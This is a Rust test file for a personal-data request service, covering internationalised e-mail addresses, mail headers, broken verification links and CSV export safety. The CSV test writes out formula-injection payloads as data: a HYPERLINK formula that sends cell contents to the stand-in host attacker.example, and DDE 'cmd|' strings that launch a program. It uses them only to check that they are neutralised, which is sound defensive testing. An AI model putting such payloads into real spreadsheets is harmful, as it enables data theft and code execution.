//! The standards at the edges: internationalised e-mail addresses are one address however they
//! are written, every message carries the headers mail servers expect, and no CSV Steward
//! writes can run a formula in a spreadsheet.

use serde_json::json;

use super::consent::{Sink, call, link_in};
use super::example_text;
use super::requests::{mail_to, person, public, reaches, served};

#[tokio::test]
async fn an_address_with_an_internationalised_domain_is_found_however_it_is_written() {
    let sink = Sink::start().await;
    let app = served(example_text("004-mailpro.toml"), &sink).await;
    let subject = person(
        &app,
        "jose@bücher.example",
        "account",
        json!({ "user.name": "José Bücher" }),
    )
    .await;
    // The same address in its ASCII form finds the same person.
    let (status, found) = call(
        &app,
        reqwest::Method::POST,
        "/v1/subjects/lookup",
        &app.service,
        Some(json!({ "kind": "email", "value": "jose@xn--bcher-kva.example" })),
    )
    .await;
    assert_eq!(status, 200, "{found}");
    assert_eq!(found["id"], subject.as_str());
    // An access request from the ASCII form: the mail goes to the form SMTP takes, and the
    // person is found.
    let (status, body) = public(
        &app,
        json!({ "kind": "access", "email": "jose@xn--bcher-kva.example" }),
    )
    .await;
    assert_eq!(status, 202, "{body}");
    let id = body["id"].as_str().unwrap().to_owned();
    let mail = mail_to(&sink, "jose@xn--bcher-kva.example", "/requests/verify").await;
    assert!(
        mail.contains("X-Sink-RCPT TO:<jose@xn--bcher-kva.example>"),
        "{mail}"
    );
    let link = link_in(&mail, "/requests/verify");
    let r = crate::client()
        .post(link)
        .header("accept", "application/json")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let done = reaches(&app, &id, "completed").await;
    assert_eq!(done["outcome"]["found"], true, "{done}");
    let ready = mail_to(&sink, "jose@xn--bcher-kva.example", "Your data is ready").await;
    assert!(!ready.contains("We hold no personal data"), "{ready}");
}

#[tokio::test]
async fn every_message_carries_a_message_id_mime_version_and_date() {
    let sink = Sink::start().await;
    let app = served(example_text("004-mailpro.toml"), &sink).await;
    let (status, body) = public(
        &app,
        json!({ "kind": "access", "email": "ana@example.com" }),
    )
    .await;
    assert_eq!(status, 202, "{body}");
    let raw = mail_to(&sink, "ana@example.com", "/requests/verify").await;
    let head = raw.split("\n\n").next().unwrap().to_owned();
    for header in [
        "Message-ID: <",
        "MIME-Version: 1.0",
        "Date: ",
        "Content-Type: text/plain; charset=utf-8",
        "Content-Transfer-Encoding: ",
    ] {
        assert!(
            head.lines().any(|l| l.starts_with(header)),
            "no `{header}` in:\n{head}"
        );
    }
    let id = head
        .lines()
        .find_map(|l| l.strip_prefix("Message-ID: "))
        .unwrap();
    assert!(id.ends_with("@mailpro.example>"), "{id}");
    // Each message has its own id.
    let (_, _) = public(&app, json!({ "kind": "access", "email": "bo@example.com" })).await;
    let other = mail_to(&sink, "bo@example.com", "/requests/verify").await;
    assert!(!other.contains(id), "a Message-ID used twice");
}

#[tokio::test]
async fn no_cell_of_the_access_package_csv_runs_as_a_formula() {
    use std::io::Read as _;
    let sink = Sink::start().await;
    let app = served(example_text("004-mailpro.toml"), &sink).await;
    let hyperlink = "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Click\")";
    let (status, created) = call(
        &app,
        reqwest::Method::POST,
        "/v1/subjects",
        &app.service,
        Some(json!({
            "purpose": "account",
            "identities": [
                { "kind": "email", "value": "eve@example.com" },
                { "kind": "username", "value": "-2+3+cmd|' /C calc'!A0" }
            ],
            "fields": { "user.name": hyperlink, "user.content.private": "@SUM(1+1)*cmd|' /C calc'!A0" }
        })),
    )
    .await;
    assert_eq!(status, 201, "{created}");
    // A consent event written by the application's key.
    let subject = created["id"].as_str().unwrap();
    let (status, body) = call(
        &app,
        reqwest::Method::POST,
        "/v1/consent",
        &app.service,
        Some(json!({ "subject": subject, "action": "withdraw", "purpose": "newsletter" })),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    // The DPO's key may export, so its vouched access request is carried out at once.
    let (status, body) = call(
        &app,
        reqwest::Method::POST,
        "/v1/requests",
        &app.dpo,
        Some(json!({ "kind": "access", "email": "eve@example.com", "vouch": true })),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    let mail = mail_to(&sink, "eve@example.com", "Your data is ready").await;
    let download = link_in(&mail, "/package");
    let bytes = crate::get(&download).await.unwrap().bytes().await.unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec()))
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&bytes)));
    let names: Vec<String> = zip
        .file_names()
        .map(|n| n.unwrap().into_owned())
        .filter(|n| n.ends_with(".csv"))
        .collect();
    // The person is told who acted in words, never a key or a staff member's name.
    let mut json = String::new();
    zip.by_name("data.json")
        .unwrap()
        .read_to_string(&mut json)
        .unwrap();
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    let actors: Vec<&str> = json["consent"]["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["actor"].as_str().unwrap())
        .collect();
    assert_eq!(actors, ["our application"]);
    let mut cells = Vec::new();
    for name in &names {
        let mut text = String::new();
        zip.by_name(name)
            .unwrap()
            .read_to_string(&mut text)
            .unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        for row in reader.records() {
            cells.extend(row.unwrap().iter().map(str::to_owned));
        }
    }
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell}"
        );
    }
    assert!(
        cells.iter().any(|c| c == &format!("'{hyperlink}")),
        "{cells:?}"
    );
    assert!(
        cells.iter().any(|c| c == "'-2+3+cmd|' /c calc'!a0"),
        "the username, defused: {cells:?}"
    );
}

#[tokio::test]
async fn a_link_that_lost_its_token_says_so_instead_of_showing_a_button() {
    let app = super::spawn(super::example("004-mailpro.toml")).await;
    for path in [
        "/requests/verify",
        "/requests/verify?token=",
        "/requests/verify?token=abc",
    ] {
        let r = crate::get(app.url(path)).await.unwrap();
        assert_eq!(r.status(), 400, "{path}");
        let page = r.text().await.unwrap();
        assert!(page.contains("This link is incomplete"), "{path}: {page}");
        assert!(!page.contains("<form"), "{path}: no button to press");
    }
}
